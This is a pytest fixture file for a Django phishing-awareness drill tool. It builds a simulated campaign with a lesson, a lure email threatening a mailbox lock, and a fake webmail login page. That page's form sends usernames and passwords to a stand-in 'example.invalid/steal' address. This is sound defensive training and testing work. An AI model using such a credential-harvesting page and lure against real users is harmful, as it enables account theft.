"""A drill ready to track, shared by the tracking, sending and receiver tests: an approved
campaign from the operator to commune D1-C1, with its template, landing page and lesson.
Built with the models directly (the approval rules are tested in test_campaigns*)."""

from __future__ import annotations

from datetime import date, time, timedelta

import pytest
from django.utils import timezone

from drills.models import (
    Campaign,
    CampaignStatus,
    LandingPage,
    Recipient,
    SendingProfile,
    Template,
)
from training.models import Lesson

DOMAIN = "so-thu-nghiem.gov.vn"

LANDING_HTML = (
    "<h1>Đăng nhập thư công vụ</h1>"
    '<form action="https://example.invalid/steal" method="get">'
    '<label>Tài khoản <input type="text" name="username"></label>'
    '<label>Mật khẩu <input type="password" name="password"></label>'
    '<button type="submit">Đăng nhập</button></form>'
)


def make_campaign(world, *, smtp_port: int = 25, status: str = CampaignStatus.APPROVED) -> Campaign:
    lesson = Lesson.objects.create(
        slug="mat-khau-thu", title="Mật khẩu an toàn", topic="passwords", minutes=3,
        audience="all", body="Không bao giờ nhập mật khẩu vào trang lạ.",
    )  # fmt: skip
    template = Template.objects.create(
        slug="it-doi-mat-khau", name="IT đề nghị nhập lại mật khẩu",
        subject="[CNTT] Hộp thư của {{name}} sắp bị khoá", sender_name="Phòng CNTT",
        sender_local_part="cntt", difficulty=3,
        html_body='<p>Chào {{name}} ({{unit}}),</p><p><a href="{{link}}">Xác minh</a></p>',
        text_body="Chào {{name}} ({{unit}}),\nXác minh tại: {{link}}\n",
        cues="Địa chỉ gửi không thuộc tên miền của đơn vị.\nThư doạ khoá hộp thư để thúc bạn.",
        lesson_topic="passwords", lesson=lesson,
    )  # fmt: skip
    page = LandingPage.objects.create(slug="dang-nhap", name="Đăng nhập", html=LANDING_HTML)
    profile = SendingProfile.objects.create(
        name="Hộp thư diễn tập", unit=world.unit("P"), smtp_host="127.0.0.1",
        smtp_port=smtp_port, sender_domain="thu-dien-tap.example",
    )  # fmt: skip
    today = timezone.localdate()
    campaign = Campaign.objects.create(
        name="Diễn tập tháng 12", unit=world.unit("P"), template=template, landing_page=page,
        sending_profile=profile, window_start=today - timedelta(days=7),
        window_end=today + timedelta(days=7), day_start=time(0, 0), day_end=time(23, 59),
        status=status, created_by=world.person("drill_operator"),
        approved_by=world.person("manager_d1") if status != CampaignStatus.DRAFT else None,
    )  # fmt: skip
    campaign.target_units.set([world.unit("D1-C1")])
    return campaign


def give_emails(world) -> None:
    for name, person in world.people.items():
        person.email = f"{name.replace('_', '.')}@{DOMAIN}"
        person.save(update_fields=["email"])


def sent_recipient(world, campaign: Campaign, *, name: str = "staff_d1_c1", ago: int = 3600):
    """A recipient whose mail went out `ago` seconds ago."""
    person = world.person(name)
    now = timezone.now()
    return Recipient.objects.create(
        campaign=campaign, person=person, email=person.email or f"{name}@{DOMAIN}",
        due_at=now - timedelta(seconds=ago), sent_at=now - timedelta(seconds=ago),
    )  # fmt: skip


@pytest.fixture(name="drill")
def drill_fixture(world, settings):
    settings.DRILLS_ALLOWED_MAIL_DOMAINS = [DOMAIN]
    give_emails(world)
    return make_campaign(world)


def weekday(d: date) -> bool:
    return d.weekday() < 5
